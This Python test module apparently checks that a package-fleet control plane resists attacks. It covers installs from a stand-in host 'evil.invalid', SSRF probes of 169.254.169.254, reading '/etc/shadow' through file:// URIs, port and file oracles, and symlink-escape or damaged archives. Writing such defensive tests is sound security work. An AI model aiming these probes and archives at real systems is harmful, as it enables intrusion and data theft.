"""Attacks with source URIs and archives, and on the passwords of sources."""

import time
from functools import partial

from tests.agent.archives import DAMAGED, built, digest, regular, symlink
from tests.agent.registry import publish
from tests.agent.web import running
from tests.attacks.frame import Attack, AttackSucceeded, Severity, System, expect_status

_ANY_DIGEST = "a" * 64
HOST = "registry-of-the-attack.invalid"


async def operator_names_a_uri(system: System) -> str:
    async with system.client(await system.token("operator")) as http:
        body = {"uri": "https://evil.invalid/x.tar.gz", "sha256": _ANY_DIGEST, "name": "evil"}
        answer = await http.post("/api/v1/operations", json={"kind": "install", "node": "agent-2", **body})
    return expect_status(answer, 403)


async def uri_probes(system: System, uri: str) -> str:
    answer = await system.fleet.install("agent-2", uri=uri, sha256=_ANY_DIGEST, name="probe")
    return expect_status(answer, 403)


async def node_asks_for_a_password(system: System) -> str:
    secret = {"username": "robot", "password": "hush"}
    (await system.fleet.http.put(f"/api/v1/sources/{HOST}", json=secret)).raise_for_status()
    async with system.client(system.identity("agent-1")["api_token"]) as http:
        answer = await http.get("/api/node/agent-1/sources", params={"host": HOST})
    return expect_status(answer, 403)


async def archive(system: System, name: str, content: bytes) -> str:
    """Install a malicious archive as an admin; the operation must fail at once with the right reason."""
    file = system.scratch / f"{name}.tar.gz"
    file.write_bytes(content)
    op_id = await system.fleet.accepted("agent-2", uri=file.as_uri(), sha256=digest(content), name=name)
    ended = await system.fleet.ended(op_id)
    if (ended["state"], ended["reason"]) not in (("failed", "bad_archive"), ("failed", "archive_escapes")):
        raise AttackSucceeded(f"the operation ended as {ended['state']}: {ended['message']}")
    return f"the node: {ended['reason']}"


async def file_oracle(system: System) -> str:
    """Learn from the answer which files exist on the control plane and on a node, or their digests."""
    (existing := system.scratch.parent / "outside").write_text("secret")
    answers = [
        await system.fleet.install("agent-2", uri=uri, sha256=_ANY_DIGEST, name="probe")
        for uri in ("file:///etc/shadow", "file:///etc/no-such-file", existing.as_uri())
    ]
    said = {answer.json()["code"] + answer.json()["detail"] for answer in answers}
    if len(said) != 1:
        raise AttackSucceeded(f"the answers differ: {said}")
    return f"{expect_status(answers[0], 403)}; the same for files that exist and files that do not"


async def port_oracle(system: System) -> str:
    """As an operator, learn from the answers which ports of the machine are open."""
    asked = {"kind": "install", "node": "agent-2"}
    async with system.client(await system.token("operator")) as http:
        answers = [
            await http.post("/api/v1/operations", json={**asked, "uri": f"oci://127.0.0.1:{port}/a/b:1"})
            for port in (system.ports["nats"], 9)
        ]
    said = {
        answer.json()["code"] + answer.json()["detail"].replace(f":{system.ports['nats']}/", ":9/")
        for answer in answers
    }
    if len(said) != 1:
        raise AttackSucceeded(f"the answers differ: {said}")
    return f"{expect_status(answers[0], 403)}; the same for an open and a closed port"


async def quadratic_layers(system: System) -> str:
    """17 KB of layers, 1,000 files over 1,000 links, once took 10 s of a core; compare with files over files."""
    taken: list[float] = []
    with running() as registry:
        for name, below in (("files", regular), ("links", partial(symlink, target="x"))):
            lower = built(regular("run.sh", b"#!/bin/sh\n"), *(below(f"l{number}") for number in range(1000)))
            image = publish(
                registry, [lower, built(*(regular(f"f{number}") for number in range(1000)))], name=f"t/{name}"
            )
            began = time.monotonic()
            ended = await system.fleet.ended(
                await system.fleet.accepted("agent-2", uri=image.reference, name=f"layers-over-{name}")
            )
            taken.append(time.monotonic() - began)
            if ended["state"] != "succeeded":
                raise AttackSucceeded(f"the attack was carried out wrongly: {ended['state']}: {ended['message']}")
    if taken[1] > 3 * taken[0] + 2:
        raise AttackSucceeded(f"files over links took {taken[1]:.1f} s, files over files {taken[0]:.1f} s")
    return f"linear: {taken[1]:.1f} s, {taken[0]:.1f} s without links"


_DRAFT = built(regular("run.sh", b"#!/bin/sh\n"), symlink(".metadata.json.draft", "run.sh"))
_ODD = (
    "a time that is no number",
    "a time before all times",
    "a time after all times",
    "a folder named like ours",
    "a file in a folder named like ours",
)
_THROUGH_A_LINK = built(symlink("d", "."), regular("d/run.sh"))

ATTACKS = (
    Attack("an operator installs by uri", Severity.HIGH, operator_names_a_uri),
    Attack(
        "a uri reads the cloud's metadata", Severity.MEDIUM, partial(uri_probes, uri="http://169.254.169.254/latest")
    ),
    Attack("a uri probes a port of a private network", Severity.LOW, partial(uri_probes, uri="oci://10.0.0.1:22/a/b")),
    Attack("a node asks for the password of any host", Severity.LOW, node_asks_for_a_password),
    Attack("an archive plants a link for our metadata", Severity.LOW, partial(archive, name="draft", content=_DRAFT)),
    Attack(
        "an archive writes through its own link", Severity.HIGH, partial(archive, name="link", content=_THROUGH_A_LINK)
    ),
    Attack("which files exist is learned from file:// uris", Severity.LOW, file_oracle),
    Attack("which ports are open is learned from oci:// uris", Severity.LOW, port_oracle),
    Attack("layers of 17 KB are unpacked in quadratic time", Severity.MEDIUM, quadratic_layers, 120),
    *(
        Attack(
            f"an archive is tried for ever: {name}",
            Severity.LOW,
            partial(archive, name=f"odd-{number}", content=DAMAGED[name]),
        )
        for number, name in enumerate(_ODD)
    ),
    Attack(
        "an archive of 1,500 folders is tried for ever",
        Severity.LOW,
        partial(archive, name="deep", content=DAMAGED["paths of 1,500 folders"]),
    ),
)
